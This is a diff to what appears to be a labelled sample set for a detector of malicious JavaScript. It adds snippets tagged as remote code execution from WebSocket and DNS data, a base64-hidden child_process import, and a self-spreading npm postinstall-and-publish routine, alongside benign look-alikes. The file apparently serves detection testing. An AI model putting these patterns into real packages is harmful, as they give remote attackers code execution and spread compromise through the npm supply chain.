@@ -51,6 +51,20 @@ request('https://x.example/a', (e, r, body) => {
 ## a message that is made a function = js-remote-code
 const link = new WebSocket('wss://x.example');
 link.onmessage = ({ data }) => { const { body } = JSON.parse(data); Function(body)(); };
+## a message that a virtual machine is given = js-remote-code
+const WebSocket = require('ws'), vm = require('node:vm');
+const link = new WebSocket('wss://x.example');
+link.onmessage = ({ data }) => new vm.Script(JSON.parse(data).body).runInNewContext({ require });
+## a loader of its own that is given a decoded name = code-hidden-name
+import { createRequire } from 'module';
+const need = createRequire(import.meta.url);
+const { execSync } = need(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());
+## a package that publishes others with itself in them = js-spreads
+const fs = require('fs'), { execSync } = require('child_process');
+const said = JSON.parse(fs.readFileSync('package/package.json'));
+said.scripts = { ...said.scripts, postinstall: 'node own.js' };
+fs.writeFileSync('package/package.json', JSON.stringify(said));
+execSync('npm publish', { cwd: 'package' });
 ## a name's record that is run = js-remote-code
 const { resolveTxt } = require('dns').promises;
 resolveTxt('x.example').then((rows) => eval(rows.flat().join('')));
@@ -165,6 +179,15 @@ https.get('https://x.example/tool', (res) => res.pipe(fs.createWriteStream(place
 ## a message that is shown
 const link = new WebSocket('wss://x.example');
 link.onmessage = ({ data }) => { document.title = JSON.parse(data).body; };
+## a template that a virtual machine is given
+const vm = require('node:vm'), fs = require('fs');
+fetch('https://x.example/names').then((r) => r.json()).then((names) => {
+  new vm.Script(fs.readFileSync('page.js', 'utf8')).runInNewContext({ names });
+});
+## a package that publishes itself
+const { execSync } = require('child_process');
+execSync('npm run build && npm publish --access public');
+exports.scripts = { test: 'node test.js' };
 ## a name's record that is compared
 const { resolveTxt } = require('dns').promises;
 resolveTxt('x.example').then((rows) => rows.flat().includes('v=1'));
